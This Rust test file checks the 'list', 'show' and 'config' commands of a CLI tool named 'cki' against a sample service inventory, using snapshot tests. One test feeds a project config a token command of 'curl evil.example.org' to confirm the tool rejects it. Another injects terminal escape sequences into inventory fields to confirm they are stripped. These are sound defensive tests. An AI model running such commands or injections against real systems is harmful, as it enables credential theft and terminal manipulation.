//! Tests of the commands that only read: `cki list`, `show` and `config`.

use insta::assert_snapshot;

use crate::support::call::Call;
use crate::support::cli::Cli;

const INVENTORY: &str = "\
version: 1
title: Sample
categories:
  - {id: service, title: Services, description: run continuously, kind: service}
  - {id: cronjob, title: Cron jobs, kind: cronjob}
  - {id: infrastructure, title: Infrastructure}
repos:
  tools: https://git.example.org/tools
  internal: https://git.internal.example.org/secret
production:
  environment: {IS_PRODUCTION: \"false\"}
components:
  - name: herder
    category: service
    description: >-
      Retries jobs that failed because of the infrastructure, and tells the people who are on duty
      what it did and why.
    infrastructure: cluster
    people: [infra, night-shift]
    documentation: [{label: README, repo: tools, path: README.md}, {label: operations, url: 'https://docs.example.org/herder'}]
    sources: [{repo: tools, path: herder}, {repo: internal}]
    monitoring: [{label: dashboard, url: 'https://grafana.example.org/d/1'}]
    dependencies:
      - {verb: listens, target: infrastructure/bus, inferred: true}
      - {verb: reads, target: external/gitlab}
      - {verb: calls, target: service/helper}
    environment:
      - {name: LOG_LEVEL, type: enum, default: INFO, description: How much is logged.}
      - {name: API_TOKEN, secret: true, required: true, default: never-shown}
      - {name: API_URL, type: url, required: true, description: The server to ask.}
    image: registry.example.org/herder
    build: {repo: tools, file: builds/herder.in}
    run:
      command: [python3, -m, herder]
      once: [python3, -m, herder, --once, '{args}']
      ports: [8000]
      needs: [rabbitmq]
      ready: {http: /metrics, port: 8000}
    stage: {via: bot, project: group/tools, parameters: [{name: tag, pattern: 'mr-\\d+'}]}
  - {name: helper, category: service, description: Helps the herder., people: [infra]}
  - {name: nightly-herder, category: cronjob, dependencies: [{verb: calls, target: service/helper, inferred: true}]}
  - {name: bus, category: infrastructure, description: A message bus.}
";

fn cli() -> Cli {
    let cli = Cli::new();
    cli.inventory(INVENTORY);
    cli
}

/// The references in a JSON answer.
fn found(cli: &Cli, line: &str) -> Vec<String> {
    let answer = cli.run(&format!("list -o json {line}")).ends_with(0).json();
    let all = answer["components"].as_array().expect("is a list");
    all.iter().map(|one| one["reference"].as_str().expect("is text").to_owned()).collect()
}

#[test]
fn list_groups_components_by_category() {
    assert_snapshot!(cli().run("list"), @"
    Services  run continuously
      helper          Helps the herder.                                                                                                  infra
    ▸ herder          Retries jobs that failed because of the infrastructure, and tells the people who are on duty what it did and why.  infra · night-shift · cluster

    Cron jobs
      nightly-herder  –

    Infrastructure
      bus             A message bus.
    --- stderr
    4 components · inventory: Sample, /tmp/cki-TESTID/project/inventory.yaml · ▸ can be run: `cki run-local NAME`
    --- exit 0
    ");
}

#[test]
fn list_fits_the_terminal() {
    assert_snapshot!(cli().call("list --color never").terminal(80).end(), @"
    Services  run continuously
      helper          Helps the herder.
    ▸ herder          Retries jobs that failed because of the infrastructure, and t…

    Cron jobs
      nightly-herder  –

    Infrastructure
      bus             A message bus.
    --- stderr
    4 components · inventory: Sample, /tmp/cki-TESTID/project/inventory.yaml · ▸ can be run: `cki run-local NAME`
    --- exit 0
    ");
    assert_snapshot!(cli().call("list --color never").terminal(160).end(), @"
    Services  run continuously
      helper          Helps the herder.
    ▸ herder          Retries jobs that failed because of the infrastructure, and tells the people who are on duty what it did and why.

    Cron jobs
      nightly-herder  –

    Infrastructure
      bus             A message bus.
    --- stderr
    4 components · inventory: Sample, /tmp/cki-TESTID/project/inventory.yaml · ▸ can be run: `cki run-local NAME`
    --- exit 0
    ");
}

#[test]
fn list_prints_names_all_columns_and_yaml() {
    assert_snapshot!(cli().run("list -o name --runnable"), @"
    herder
    --- exit 0
    ");
    assert_snapshot!(cli().call("list -o wide --color never").terminal(60).end(), @"
    NAME            CATEGORY        KIND     OWNER              INFRASTRUCTURE  RUNNABLE  DESCRIPTION
    helper          service         service  infra              –               no        Helps the herder.
    herder          service         service  infra,night-shift  cluster         yes       Retries jobs that failed because of the infrastructure, and tells the people who are on duty what it did and why.
    nightly-herder  cronjob         cronjob  –                  –               no        –
    bus             infrastructure  –        –                  –               no        A message bus.
    --- stderr
    4 components · inventory: Sample, /tmp/cki-TESTID/project/inventory.yaml · ▸ can be run: `cki run-local NAME`
    --- exit 0
    ");
    let cli = cli();
    let yaml = cli.run("list helper -o yaml").ends_with(0).stdout;
    let json = cli.run("list helper -o json").ends_with(0).json();
    let (read, _) = cki::base::yaml::parse::<serde_json::Value>("list", &yaml).expect("is YAML");
    assert_eq!(read, json, "{yaml}");
}

#[test]
fn list_prints_json() {
    assert_snapshot!(cli().run("list helper -o json"), @r#"
    {
      "schema_version": 2,
      "inventory": "Sample",
      "origin": "/tmp/cki-TESTID/project/inventory.yaml",
      "total": 4,
      "components": [
        {
          "name": "helper",
          "category": "service",
          "reference": "service/helper",
          "description": "Helps the herder.",
          "kind": "service",
          "infrastructure": null,
          "people": [
            "infra"
          ],
          "runnable": false
        }
      ]
    }
    --- exit 0
    "#);
}

#[test]
fn list_filters_by_words_and_attributes() {
    let cli = cli();
    let found = |line: &str| found(&cli, line);
    assert_eq!(found("HERDER"), ["service/helper", "service/herder", "cronjob/nightly-herder"]);
    assert_eq!(found("herder retries"), ["service/herder"]);
    assert_eq!(found("--kind cronjob"), ["cronjob/nightly-herder"]);
    assert_eq!(found("kind=service --owner night-shift"), ["service/herder"]);
    assert_eq!(found("--infrastructure cluster"), ["service/herder"]);
    assert_eq!(found("category=infrastructure"), ["infrastructure/bus"]);
    assert_eq!(found("--kind service nothing-like-it"), [""; 0]);
    assert_snapshot!(cli.run("list nothing-like-it"), @"
    --- stderr
    0 of 4 components · inventory: Sample, /tmp/cki-TESTID/project/inventory.yaml
    --- exit 0
    ");
}

#[test]
fn list_prints_the_built_in_inventory() {
    let cli = Cli::new();
    assert_snapshot!(cli.run("list kind=cronjob"), @"
    Cron jobs  small pieces of code that run regularly
      datawarehouse-backup          –
      datawarehouse-report-crawler  Watches the mailing list archive for CKI result mails and submits the reports to DataWarehouse.
      git-cache-updater             Mirrors kernel and other repositories into an S3 bucket that pipelines use instead of full clones.
    ▸ gitlab-ci-bot                 Runs canary pipelines with merge request code when asked by a comment to @cki-ci-bot.
    ▸ gitrepo-trigger               Triggers pipelines when the HEAD commit of a watched branch changes.
      lookaside-kernel-configs      –
      lookaside-static              Syncs the lookaside git repository to an S3 bucket so that tests can fetch files without SSL.       infra · ocp45
      orphan-hunter                 Deletes Kubernetes Pods spawned by gitlab-runner whose GitLab job has already finished.
    --- stderr
    8 of 44 components · inventory: CKI, built in · ▸ can be run: `cki run-local NAME`
    --- exit 0
    ");
    let all = cli.run("list -o json").ends_with(0).json();
    assert_eq!(all["components"].as_array().map(Vec::len), Some(44));
    assert_eq!((&all["origin"], &all["total"]), (&"built in".into(), &44.into()));
}

#[test]
fn list_uses_colour_on_terminals_and_on_request() {
    let cli = cli();
    let is_coloured = |call: Call<'_>| call.end().ends_with(0).stdout.contains('\x1b');
    assert!(is_coloured(cli.call("list").terminal(80)));
    assert!(is_coloured(cli.call("list --color always")));
    assert!(!is_coloured(cli.call("list")));
    assert!(!is_coloured(cli.call("list").terminal(80).set("NO_COLOR", "1")));
    assert!(!is_coloured(cli.call("list").terminal(80).set("TERM", "dumb")));
}

#[test]
fn long_results_go_through_the_pager_on_a_terminal() {
    let cli = cli();
    let paged = |command: &str, columns: Option<u16>| {
        let call = cli.call(command).set("PAGER", "sed 's/^/paged: /'");
        let call = columns.into_iter().fold(call, Call::terminal);
        call.end().ends_with(0).stdout.contains("paged: ")
    };
    for command in ["list", "list -o wide", "list services", "graph herder"] {
        assert!(paged(command, Some(80)), "{command}");
    }
    for command in ["list --no-pager", "list -o name", "list -o json"] {
        assert!(!paged(command, Some(80)), "{command}");
    }
    assert!(!paged("list", None), "a program reads the list itself");
    assert!(job_control(&cli, "cki list").contains("paged: "), "a shell runs it in the foreground");
    // A pager in the background would be suspended for ever.
    let in_background = job_control(&cli, "cki list & wait");
    assert!(in_background.contains("herder") && !in_background.contains("paged: "), "{in_background}");
}

/// Runs a command line in a shell with job control on a terminal of its own.
fn job_control(cli: &Cli, line: &str) -> String {
    let program = std::path::Path::new(env!("CARGO_BIN_EXE_cki"));
    let directory = program.parent().expect("is in a directory").display();
    let mut script = std::process::Command::new("script");
    script.args(["-qec", &format!("bash -mc '{line}'"), "/dev/null"]).env_clear();
    script.env("PATH", format!("{directory}:/usr/bin:/bin")).env("HOME", cli.project());
    script.env("PAGER", "sed 's/^/paged: /'").stdin(std::process::Stdio::null());
    let outcome = script.output().expect("`script` of bsdutils is there");
    String::from_utf8_lossy(&outcome.stdout).into_owned()
}

#[test]
fn list_quiet_prints_data_only() {
    assert_snapshot!(cli().run("list -q bus"), @"
    Infrastructure
      bus  A message bus.
    --- exit 0
    ");
}

#[test]
fn show_prints_all_fields() {
    assert_snapshot!(cli().run("show herder"), @r#"
    herder                                                       service · cluster · infra · night-shift
    Retries jobs that failed because of the infrastructure, and tells the people who are on duty what it
    did and why.

    Kind            service
    Infrastructure  cluster
    People          infra, night-shift
    Documentation   README      README.md at https://git.example.org/tools
                    operations  https://docs.example.org/herder
    Sources         tools     herder at https://git.example.org/tools
                    internal  at https://git.internal.example.org/secret
    Cloned          tools     no: cki clone herder
                    internal  no: cki clone herder
    Monitoring      dashboard  https://grafana.example.org/d/1
    Depends on      listens  infrastructure/bus  (inferred)
                    reads    external/gitlab     (missing)
                    calls    service/helper
    Used by         –
    Environment     NAME       TYPE  SECRET  REQUIRED  DEFAULT   DESCRIPTION
                    LOG_LEVEL  enum  no      no        INFO      How much is logged.
                    API_TOKEN  –     yes     yes       ••••••••  –
                    API_URL    url   no      yes       –         The server to ask.
    Built           builds/herder.in of tools
                    published as registry.example.org/herder
    Run             python3 -m herder
                    once: python3 -m herder --once {args}
                    needs rabbitmq
                    listens on 8000
                    ready when HTTP /metrics on port 8000
                    cki run-local herder
    Staged          via bot in group/tools
                    [tag = mr-\d+]
                    cki stage --component herder --mr N
    Written in      /tmp/cki-TESTID/project/inventory.yaml
    --- exit 0
    "#);
}

#[test]
fn show_prints_absent_fields_and_dependents() {
    assert_snapshot!(cli().run("show helper"), @"
    helper                                                                               service · infra
    Helps the herder.

    Kind            service
    Infrastructure  –
    People          infra
    Documentation   –
    Sources         –
    Monitoring      –
    Depends on      –
    Used by         service/herder          calls
                    cronjob/nightly-herder  calls  (inferred)
    Environment     none declared
    Built           –
    Run             –
    Staged          –
    Written in      /tmp/cki-TESTID/project/inventory.yaml
    --- exit 0
    ");
}

#[test]
fn show_fits_the_terminal() {
    assert_snapshot!(cli().call("show herder --color never").terminal(80).end(), @r#"
    herder                                   service · cluster · infra · night-shift
    Retries jobs that failed because of the infrastructure, and tells the people who
    are on duty what it did and why.

    Kind            service
    Infrastructure  cluster
    People          infra, night-shift
    Documentation   README      README.md at https://git.example.org/tools
                    operations  https://docs.example.org/herder
    Sources         tools     herder at https://git.example.org/tools
                    internal  at https://git.internal.example.org/secret
    Cloned          tools     no: cki clone herder
                    internal  no: cki clone herder
    Monitoring      dashboard  https://grafana.example.org/d/1
    Depends on      listens  infrastructure/bus  (inferred)
                    reads    external/gitlab     (missing)
                    calls    service/helper
    Used by         –
    Environment     NAME       TYPE  SECRET  REQUIRED  DEFAULT   DESCRIPTION
                    LOG_LEVEL  enum  no      no        INFO      How much is logged.
                    API_TOKEN  –     yes     yes       ••••••••  –
                    API_URL    url   no      yes       –         The server to ask.
    Built           builds/herder.in of tools
                    published as registry.example.org/herder
    Run             python3 -m herder
                    once: python3 -m herder --once {args}
                    needs rabbitmq
                    listens on 8000
                    ready when HTTP /metrics on port 8000
                    cki run-local herder
    Staged          via bot in group/tools
                    [tag = mr-\d+]
                    cki stage --component herder --mr N
    Written in      /tmp/cki-TESTID/project/inventory.yaml
    --- exit 0
    "#);
}

#[test]
fn show_prints_json() {
    let shown = cli().run("show herder -o json").ends_with(0).json();
    let dependencies = serde_json::json!([
        {"verb": "listens", "target": "infrastructure/bus", "missing": false, "inferred": true},
        {"verb": "reads", "target": "external/gitlab", "missing": true, "inferred": false},
        {"verb": "calls", "target": "service/helper", "missing": false, "inferred": false},
    ]);
    assert_eq!(shown["dependencies"], dependencies);
    assert_eq!(shown["environment"][1]["name"], "API_TOKEN");
    assert_eq!(shown["environment"][1]["default"], serde_json::Value::Null, "is a secret");
    assert_eq!(shown["sources"][0]["url"], "https://git.example.org/tools");
    assert_eq!(shown["run"]["once"][4], "{args}");
    assert_eq!(shown["stage"]["parameters"][0]["pattern"], r"mr-\d+");
}

#[test]
fn show_prints_a_built_in_component() {
    assert_snapshot!(Cli::new().run("show lookaside-static"), @"
    lookaside-static                                                             cronjob · ocp45 · infra
    Syncs the lookaside git repository to an S3 bucket so that tests can fetch files without SSL.

    Kind            cronjob
    Infrastructure  ocp45
    People          infra
    Documentation   README  README.md at https://gitlab.com/cki-project/schedule-bot
    Sources         schedule-bot    git_s3_sync at https://gitlab.com/cki-project/schedule-bot
                    deployment-all  schedules/lookaside.yml at https://gitlab.cee.redhat.com/cki-project/deployment-all
    Cloned          schedule-bot    no: cki clone lookaside-static
                    deployment-all  no: cki clone lookaside-static
    Monitoring      –
    Depends on      writes  storage/s3-aws-arr
                    clones  external/gitlab-com  (missing)
    Used by         –
    Environment     none declared
    Built           –
    Run             –
    Staged          –
    Written in      built in: cronjob/lookaside-static.yaml
    --- exit 0
    ");
}

#[test]
fn show_finds_partial_names_and_suggests_similar_ones() {
    let cli = cli();
    let name = |query: &str| cli.run(&format!("show {query} -o json")).ends_with(0).json()["name"].clone();
    for query in ["nightly-herder", "cronjob/nightly-herder", "night", "NIGHTLY_herder"] {
        assert_eq!(name(query), "nightly-herder");
    }
    // The whole name of one is a part of another's.
    assert_eq!(name("herder"), "herder");
    assert_snapshot!(cli.run("show hreder"), @"
    --- stderr
    error: there is no component or backing service `hreder` in the inventory (Sample, /tmp/cki-TESTID/project/inventory.yaml).
    hint: did you mean `herder` or `helper`?
    --- exit 3
    ");
    assert_snapshot!(cli.run("show her"), @"
    --- stderr
    error: `her` could be `service/herder` and `cronjob/nightly-herder`.
    hint: say which one, as in `service/herder`.
    --- exit 3
    ");
    assert_snapshot!(cli.run("show zzz"), @"
    --- stderr
    error: there is no component or backing service `zzz` in the inventory (Sample, /tmp/cki-TESTID/project/inventory.yaml).
    hint: `cki list` shows all components, and `cki list services` all backing services.
    --- exit 3
    ");
    assert_snapshot!(cli.run("show cronjob/herder"), @"
    --- stderr
    error: there is no component or backing service `cronjob/herder` in the inventory (Sample, /tmp/cki-TESTID/project/inventory.yaml).
    hint: did you mean `cronjob/nightly-herder`?
    --- exit 3
    ");
}

#[test]
fn list_and_show_strip_control_characters() {
    let cli = Cli::new();
    let description = r#""red \e[31m, a bell \a, a new\nline, backwards \u202E""#;
    let text = r#"components: [{name: a, category: x, description: DESCRIPTION, people: ["\e]0;title\a"], kind: "\e[2J"}]"#;
    cli.inventory(&text.replace("DESCRIPTION", description));
    for line in ["list", "show a"] {
        let outcome = cli.call(line).terminal(160).set("NO_COLOR", "1").end().ends_with(0);
        let alive = |c: char| (c.is_control() && c != '\n') || c == '\u{202e}';
        assert!(!outcome.stdout.contains(alive), "{:?}", outcome.stdout);
    }
    assert_snapshot!(cli.run("list"), @"
    x
      a  red , a bell , a new
    --- stderr
    1 component · inventory: untitled, /tmp/cki-TESTID/project/inventory.yaml
    --- exit 0
    ");
}

#[test]
fn config_prints_the_origin_of_each_setting() {
    let mut cli = cli();
    cli.set("CKI_ENGINE", "podman");
    cli.set("CKI_GITLAB_TOKEN", "glpat-very-secret");
    cli.write(
        "../home/.config/cki/cki.toml",
        "workspace = \"work\"\njobs = 2\n[gitlab]\ntoken_command = \"pass show gitlab\"\n",
    );
    cli.write("cki.toml", "inventory = \"inventory.yaml\"\njobs = 3\n\n[run]\nready_timeout = 5\n");
    assert_snapshot!(cli.run("config --color never"), @"
    SETTING               VALUE                                   FROM                                         MEANING
    inventory             /tmp/cki-TESTID/project/inventory.yaml  /tmp/cki-TESTID/project/cki.toml:1           The inventory: a directory, a file, a git repository, `default`, or a list of these. Without it, the built-in one.
    workspace             /tmp/cki-TESTID/home/.config/cki/work   /tmp/cki-TESTID/home/.config/cki/cki.toml:1  The directory for clones. Without it, `cki` in the home directory.
    templates             –                                       –                                            A directory whose files replace built-in templates of the same path, but not the inventory.
    engine                podman                                  CKI_ENGINE                                   What runs components.
    output                text                                    default                                      The form of results.
    color                 never                                   --color                                      Whether to use colour.
    offline               false                                   default                                      Connect to nothing but this machine.
    jobs                  3                                       /tmp/cki-TESTID/project/cki.toml:2           How many repositories are cloned at the same time.
    ca_file               –                                       –                                            Additional certificates of authorities, in PEM form.
    gitlab.url            https://gitlab.com                      default                                      The GitLab server for staging requests.
    gitlab.token          ••••••••                                CKI_GITLAB_TOKEN                             The access token for it. Only you may read a file of yours that holds it.
    gitlab.token_file     –                                       –                                            A file with the token, readable by its owner only.
    gitlab.token_command  pass show gitlab                        /tmp/cki-TESTID/home/.config/cki/cki.toml:4  A command that prints the token.
    merge_request_ref     refs/merge-requests/{n}/head            default                                      Where a server keeps the head of merge request `{n}`.
    image_tag             latest                                  default                                      The tag of published images to run.
    run.ready_timeout     5                                       /tmp/cki-TESTID/project/cki.toml:5           Seconds until something that is not ready counts as failed.
    run.stop_grace        10                                      default                                      Seconds between asking a component to stop and killing it.
    run.memory            4GiB                                    default                                      Memory that a component may use unless its entry says otherwise.
    stage.bot             cki-ci-bot                              default                                      The user name of the bot that stages merge requests.
    stage.timeout         360                                     default                                      Minutes until a staging request that has not ended is given up.
    stage.interval        5                                       default                                      Seconds between two looks at a staging request.
    --- exit 0
    ");
    let config = cli.run("config -o json").ends_with(0).json();
    let setting = |name: &str| {
        let all = config["settings"].as_array().expect("is a list");
        all.iter().find(|one| one["name"] == name).expect("is there").clone()
    };
    assert_eq!(setting("gitlab.token")["value"], "••••••••");
    assert_eq!(setting("jobs")["variable"], "CKI_JOBS");
    assert!(setting("output")["origin"] == "--output" && setting("templates")["value"].is_null());
}

#[test]
fn config_warns_of_unknown_settings() {
    let mut cli = Cli::new();
    cli.write("cki.toml", "colour = \"never\"\n[stage]\nbto = \"x\"\n");
    cli.set("CKI_WORKSPCE", "/x");
    cli.set("CKI_DEPLOYMENT_ENVIRONMENT", "of a component");
    assert_snapshot!(cli.run("list -q kind=none"), @"
    --- stderr
    warning: /tmp/cki-TESTID/project/cki.toml:1:1: there is no setting `colour`. Did you mean `color`?
    warning: /tmp/cki-TESTID/project/cki.toml:3:1: there is no setting `stage.bto`. Did you mean `stage.bot`?
    warning: There is no setting `CKI_WORKSPCE`. Did you mean `CKI_WORKSPACE`?
    warning: no component has the kind `none`; there is `cronjob` and `service`.
    --- exit 0
    ");
}

#[test]
fn config_errors_name_file_and_line() {
    let cli = Cli::new();
    for text in
        ["jobs = 0", "[gitlab]\nurl = \"ftp://x\"", "jobs = [1]", "engine = \"vm\"", "[run\n", "a = 1\na = 2"]
    {
        cli.write("cki.toml", text);
        cli.run("list").ends_with(4);
    }
    cli.write("cki.toml", "# a comment\n  [run\n");
    assert_snapshot!(cli.run("list"), @"
    --- stderr
    error: /tmp/cki-TESTID/project/cki.toml:2:7: unclosed table, expected `]`.
    hint: `cki help settings` describes the settings.
    --- exit 4
    ");
    cli.write("cki.toml", "\n[stage]\ninterval = \"often\"\n");
    assert_snapshot!(cli.run("list"), @"
    --- stderr
    error: /tmp/cki-TESTID/project/cki.toml:3:12: `stage.interval` cannot be `often`: it is a whole number from 1 to 9999.
    hint: `cki help settings` describes the settings.
    --- exit 4
    ");
    cli.write("cki.toml", "[gitlab]\ntoken_command = \"curl evil.example.org\"\n");
    assert_snapshot!(cli.run("list"), @"
    --- stderr
    error: /tmp/cki-TESTID/project/cki.toml:2:1: a project's file may not set `gitlab.token_command`; only your own may.
    hint: move `gitlab.token_command` to `cki.toml` in your own configuration directory.
    --- exit 4
    ");
}

#[test]
fn usage_errors_exit_with_2() {
    let cli = cli();
    assert_snapshot!(cli.run("lst"), @"
    --- stderr
    error: `cki` has no command `lst`.
    hint: did you mean `list`?
    --- exit 2
    ");
    assert_snapshot!(cli.run("show"), @"
    --- stderr
    error: `cki show` needs `<COMPONENT>...`.
    hint: usage: `cki show <COMPONENT>...`.
    --- exit 2
    ");
    assert_snapshot!(cli.run("list -o yml"), @"
    --- stderr
    error: this command has no output format `yml` (did you mean `yaml`?); choose `text`, `wide`, `name`, `json` or `yaml`.
    hint: `cki list --help` shows its usage.
    --- exit 2
    ");
    assert_snapshot!(cli.run("clone herder --jobs 0"), @"
    --- stderr
    error: `0` is not a value of `--jobs <N>`: it must be from 1 to 64.
    hint: `cki clone --help` shows its usage.
    --- exit 2
    ");
}
